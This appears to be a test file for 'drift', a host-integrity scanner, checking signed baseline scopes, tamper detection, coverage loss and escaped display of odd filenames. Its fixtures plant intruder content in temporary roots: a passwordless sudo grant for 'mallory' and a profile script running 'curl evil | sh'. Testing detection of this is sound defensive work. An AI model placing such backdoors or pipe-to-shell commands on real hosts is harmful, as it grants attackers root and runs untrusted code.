import t from 'tap';
import { chmod, chown, mkdir, mkdtemp, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { drift, run } from '../../helpers/run.js';
import { driftBin } from '../../helpers/paths.js';

/**
 * The watch scope travels with the image: `drift baseline` records it under the
 * signature, `drift scan` collects exactly it whatever rule files the host has
 * now, counts what each rule dropped, reports lost coverage, and refuses a root
 * that does not exist. Every case runs the real command on a root built here.
 */

interface Report {
  findings: Array<{ kind: string; key: string; change: string; severity: string; explanation: string }>;
  dropped?: Array<{ rule: string; by: string; count: number }>;
  unread: Array<{ path: string; reason: string }>;
}

const work = await mkdtemp(join(tmpdir(), 'drift-scope-'));
t.teardown(() => rm(work, { recursive: true, force: true }));
// Setup steps throw rather than assert.
const must = async (args: string[]): Promise<string> => {
  const r = await drift(args);
  if (r.code !== 0) throw new Error(`drift ${args.join(' ')} exited ${r.code}: ${r.stderr}`);
  return r.stderr;
};
const files = (m: { files?: Record<string, unknown> }): string[] => Object.keys(m.files ?? {});

/** A small root: /etc with a hostname, sudoers, profile.d and a motd, and a /srv tree. */
async function buildRoot(name: string): Promise<string> {
  const root = join(work, name);
  for (const d of ['etc/sudoers.d', 'etc/profile.d', 'etc/private', 'srv/foo', 'srv/bar/baz', 'srv/other']) await mkdir(join(root, d), { recursive: true });
  await writeFile(join(root, 'etc', 'hostname'), 'image\n');
  await writeFile(join(root, 'etc', 'motd'), 'welcome\n');
  await writeFile(join(root, 'etc', 'sudoers'), 'root ALL=(ALL) ALL\n', { mode: 0o440 });
  await writeFile(join(root, 'etc', 'profile.d', 'a.sh'), 'umask 022\n');
  await writeFile(join(root, 'etc', 'private', 'one'), '1\n');
  await writeFile(join(root, 'etc', 'private', 'two'), '2\n');
  await writeFile(join(root, 'srv', 'foo', 'f'), 'foo\n');
  await writeFile(join(root, 'srv', 'bar', 'baz', 'x'), 'x\n');
  await writeFile(join(root, 'srv', 'other', 'o'), 'o\n');
  return root;
}

const bakeRules = join(work, 'bake-rules');
await mkdir(bakeRules);
await writeFile(join(bakeRules, 'srv.yaml'), 'watch:\n  - path: "/srv/@(foo|bar/baz)/**"\n');

t.test('the baseline records its scope, with a digest, under the signature', async (t) => {
  const root = await buildRoot('signed');
  await must(['keygen', '--out', join(work, 'bake')]);
  const baseline = join(work, 'signed.json');
  const state = join(work, 'signed-state');
  await must(['baseline', '--root', root, '--image-id', 'img', '--rules', bakeRules, '--sign-key', join(work, 'bake.key'), '--out', baseline, '--state-dir', state]);
  const b = JSON.parse(await readFile(baseline, 'utf8')) as { scope: { digest: string; watch: Array<{ path: string; source?: { file: string } }>; ignore: unknown[]; expect: unknown[] } };
  t.match(b.scope.digest, /^sha256:[0-9a-f]{64}$/);
  t.ok(b.scope.watch.some((w) => w.path === '/srv/@(foo|bar/baz)/**' && w.source?.file.endsWith('srv.yaml')), 'the bake\'s site rule is recorded, with its source');
  t.ok(b.scope.ignore.length > 0 && b.scope.expect.length > 0, 'ignore and expect rules are recorded too');
  t.notOk('policy' in b.scope, 'policy stays the operator\'s');

  // Widening the recorded ignore rules breaks the signature; without a key, the digest.
  const tampered = JSON.parse(await readFile(baseline, 'utf8')) as { scope: { ignore: unknown[] } };
  tampered.scope.ignore.push({ path: '/etc/**', why: 'hide', broad: true });
  await writeFile(join(work, 'tampered.json'), JSON.stringify(tampered));
  const signed = await drift(['scan', '--root', root, '--baseline', join(work, 'tampered.json'), '--pubkey', join(work, 'bake.pub'), '--state-dir', state]);
  t.equal(signed.code, 2, 'a scope widened after signing does not verify');
  const unsigned = await drift(['scan', '--root', root, '--baseline', join(work, 'tampered.json'), '--state-dir', state]);
  t.equal(unsigned.code, 2);
  t.match(unsigned.stderr, /recorded scope does not match its digest/);
});

t.test('a rule file added on the host after baking changes nothing that is collected; drops are counted by rule', async (t) => {
  const root = await buildRoot('site');
  const baseline = join(work, 'site.json');
  const state = join(work, 'site-state');
  await must(['baseline', '--root', root, '--image-id', 'img', '--rules', bakeRules, '--out', baseline, '--state-dir', state]);
  const recorded = JSON.parse(await readFile(baseline, 'utf8')) as { files: Record<string, unknown> };
  t.ok(files(recorded).includes('/srv/bar/baz/x'), 'an extglob with a / in its group collects what it names');
  t.ok(files(recorded).includes('/srv/foo/f'));
  t.notOk(files(recorded).includes('/srv/other/o'), 'and nothing else');

  // The intruder's site file: ignore all of /etc (acknowledged, so rules check passes),
  // and a policy that ignores motd findings.
  const site = join(work, 'site-rules');
  await mkdir(site);
  await writeFile(join(site, '99-site.yaml'), [
    'ignore:', '  - path: /etc/**', '    why: quiet', '    broad: true',
    'policy:', '  - match: { kind: file, path: /etc/motd }', '    severity: low', '    action: ignore', '',
  ].join('\n'));
  t.equal((await drift(['rules', 'check', site])).code, 0);
  await writeFile(join(root, 'etc', 'sudoers'), 'root ALL=(ALL) ALL\nmallory ALL=(ALL) NOPASSWD:ALL\n');
  await writeFile(join(root, 'etc', 'motd'), 'owned\n');
  await writeFile(join(root, 'etc', 'hostname'), 'web-1\n');
  const scan = await drift(['scan', '--root', root, '--baseline', baseline, '--rules', site, '--state-dir', state, '--format', 'json']);
  t.equal(scan.code, 1, scan.stderr);
  t.match(scan.stderr, /collecting the scope recorded in the baseline/);
  const report = JSON.parse(scan.stdout) as Report;
  t.same(report.findings.map((f) => `${f.kind} ${f.key} ${f.severity}`), ['file /etc/sudoers critical'], 'the sudoers change is seen although the host ignores /etc');
  t.same(report.dropped?.map((d) => d.by).sort(), ['expect', 'policy']);
  t.match(report.dropped?.find((d) => d.by === 'expect'), { count: 1, rule: /10-first-boot\.yaml:\d+$/ }, 'the hostname change, dropped by the shipped expect rule');
  t.match(report.dropped?.find((d) => d.by === 'policy'), { count: 1, rule: /99-site\.yaml:6$/ }, 'the motd change, dropped by the site policy');
  const text = await drift(['scan', '--root', root, '--baseline', baseline, '--rules', site, '--state-dir', state]);
  t.match(text.stdout, /DROPPED BY RULES \(2 differences, not reported\)\n {2}1 by (expect|policy) rule /);
});

t.test('names with a newline, CR, U+2028 or U+2029 are matched, recorded, judged and shown escaped', async (t) => {
  const root = await buildRoot('names');
  const baseline = join(work, 'names.json');
  const state = join(work, 'names-state');
  await rm(join(root, 'etc', 'sudoers.d'), { recursive: true });
  await must(['baseline', '--root', root, '--image-id', 'img', '--out', baseline, '--state-dir', state]);
  await mkdir(join(root, 'etc', 'sudoers.d'));
  await writeFile(join(root, 'etc', 'sudoers.d', 'evil\n'), 'mallory ALL=(ALL) NOPASSWD:ALL\n');
  await writeFile(join(root, 'etc', 'profile.d', 'a\r.sh'), 'curl evil | sh\n');
  await writeFile(join(root, 'etc', 'x\u2028y'), '1\n');
  await writeFile(join(root, 'etc', 'x\u2029y'), '2\n');
  const scan = await drift(['scan', '--root', root, '--baseline', baseline, '--state-dir', state, '--format', 'json']);
  t.equal(scan.code, 1);
  const report = JSON.parse(scan.stdout) as Report;
  t.same(report.findings.map((f) => `${f.key} ${f.change} ${f.severity}`), [
    '/etc/profile.d/a\r.sh added high',
    '/etc/sudoers.d added critical',
    '/etc/sudoers.d/evil\n added critical',
    '/etc/x\u2028y added medium',
    '/etc/x\u2029y added medium',
  ], 'the new sudoers.d folder itself is critical too: /etc/{sudoers,sudoers.d/**} matches it');
  const text = await drift(['scan', '--root', root, '--baseline', baseline, '--state-dir', state]);
  t.match(text.stdout, /\+\/etc\/sudoers\.d\/evil\\n[,\n]/, 'shown escaped, on one line');
  t.match(text.stdout, /\+ file \/etc\/profile\.d\/a\\r\.sh\n/);
  t.match(text.stdout, /\+ file \/etc\/x\\u2028y\n/);
  t.notMatch(text.stdout, /[\r\u2028\u2029]/, 'no raw line terminator reaches the terminal');
});

t.test('coverage loss is drift: paths the baseline recorded that a scan cannot read are findings, never "no drift"', async (t) => {
  const root = await buildRoot('coverage');
  const state = join(work, 'coverage-state');
  await mkdir(state);
  // As an unprivileged user, for whom mode 000 means unreadable (root reads anything).
  await chown(state, 65534, 65534);
  await chmod(work, 0o755);
  const asNobody = (args: string[]) => run('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', process.execPath, driftBin, ...args], { env: { ...process.env, NO_COLOR: '1' } });
  const baseline = join(state, 'baseline.json');
  const b = await asNobody(['baseline', '--root', root, '--image-id', 'img', '--out', baseline, '--state-dir', state]);
  t.equal(b.code, 0, b.stderr);
  await chmod(join(root, 'etc', 'private'), 0o000);
  await chmod(join(root, 'etc', 'motd'), 0o000);
  t.teardown(() => chmod(join(root, 'etc', 'private'), 0o755));
  const scan = await asNobody(['scan', '--root', root, '--baseline', baseline, '--state-dir', state, '--format', 'json']);
  t.equal(scan.code, 1, 'lost coverage is drift');
  const report = JSON.parse(scan.stdout) as Report;
  const coverage = report.findings.filter((f) => f.kind === 'coverage');
  t.same(coverage.map((f) => `${f.key} ${f.severity}`), ['/etc/motd high', '/etc/private high']);
  t.match(coverage[1]?.explanation, /could not be read \(EACCES\), which hides 2 paths the baseline recorded/);
  t.notOk(report.findings.some((f) => f.kind === 'file' && f.change === 'removed'), 'the hidden files are not reported as removed');
  const text = await asNobody(['scan', '--root', root, '--baseline', baseline, '--state-dir', state]);
  t.notMatch(text.stdout, /no drift/);
});

t.test('a --root that does not exist is trouble (exit 2) for baseline and scan, and creates nothing', async (t) => {
  const missing = join(work, 'no-such-root');
  const b = await drift(['baseline', '--root', missing, '--image-id', 'img', '--out', join(work, 'none.json'), '--stamp', '--state-dir', join(work, 'st')]);
  t.equal(b.code, 2);
  t.match(b.stderr, /--root .*no-such-root cannot be read \(ENOENT\)/);
  await t.rejects(stat(missing), { code: 'ENOENT' }, '--stamp did not create the folder');
  await t.rejects(stat(join(work, 'none.json')), { code: 'ENOENT' }, 'no empty baseline was written');
  const root = await buildRoot('exists');
  await must(['baseline', '--root', root, '--image-id', 'img', '--out', join(work, 'exists.json'), '--state-dir', join(work, 'st')]);
  const s = await drift(['scan', '--root', missing, '--baseline', join(work, 'exists.json'), '--state-dir', join(work, 'st')]);
  t.equal(s.code, 2, 'not "everything removed"');
  const file = await drift(['scan', '--root', join(root, 'etc', 'motd'), '--baseline', join(work, 'exists.json'), '--state-dir', join(work, 'st')]);
  t.equal(file.code, 2);
  t.match(file.stderr, /is not a folder/);
});

t.test('--sections selects what is collected and compared', async (t) => {
  const root = await buildRoot('sections');
  const baseline = join(work, 'sections.json');
  const state = join(work, 'sections-state');
  await must(['baseline', '--root', root, '--image-id', 'img', '--out', baseline, '--state-dir', state, '--sections', 'files']);
  const b = JSON.parse(await readFile(baseline, 'utf8')) as Record<string, unknown>;
  t.ok('files' in b);
  t.notOk('packages' in b, 'packages were not collected');
  await writeFile(join(root, 'etc', 'motd'), 'changed\n');
  const packagesOnly = await drift(['scan', '--root', root, '--baseline', baseline, '--state-dir', state, '--sections', 'packages']);
  t.equal(packagesOnly.code, 0, 'the files section is left out of the comparison');
  const filesToo = await drift(['scan', '--root', root, '--baseline', baseline, '--state-dir', state, '--sections', 'files,packages']);
  t.equal(filesToo.code, 1);
  const bad = await drift(['scan', '--root', root, '--baseline', baseline, '--sections', 'files,users']);
  t.equal(bad.code, 2);
  t.match(bad.stderr, /unknown: "users"/);
});

t.test('a hostile recorded scope is bounded: too many rules or too long a glob is refused, exit 2', async (t) => {
  const root = await buildRoot('hostile');
  const baseline = join(work, 'hostile.json');
  const state = join(work, 'hostile-state');
  await must(['baseline', '--root', root, '--image-id', 'img', '--out', baseline, '--state-dir', state]);
  const b = JSON.parse(await readFile(baseline, 'utf8')) as { scope: { watch: Array<{ path: string }> } };
  const many = { ...b, scope: { ...b.scope, watch: Array.from({ length: 10_001 }, (_, i) => ({ path: `/etc/f${i}` })) } };
  await writeFile(join(work, 'many.json'), JSON.stringify(many));
  const r1 = await drift(['scan', '--root', root, '--baseline', join(work, 'many.json'), '--state-dir', state]);
  t.equal(r1.code, 2);
  t.match(r1.stderr, /scope\.watch/);
  const long = { ...b, scope: { ...b.scope, watch: [{ path: `/${'a'.repeat(5000)}` }] } };
  await writeFile(join(work, 'long.json'), JSON.stringify(long));
  const r2 = await drift(['scan', '--root', root, '--baseline', join(work, 'long.json'), '--state-dir', state]);
  t.equal(r2.code, 2);
  t.match(r2.stderr, /scope\.watch\.0\.path/);
});
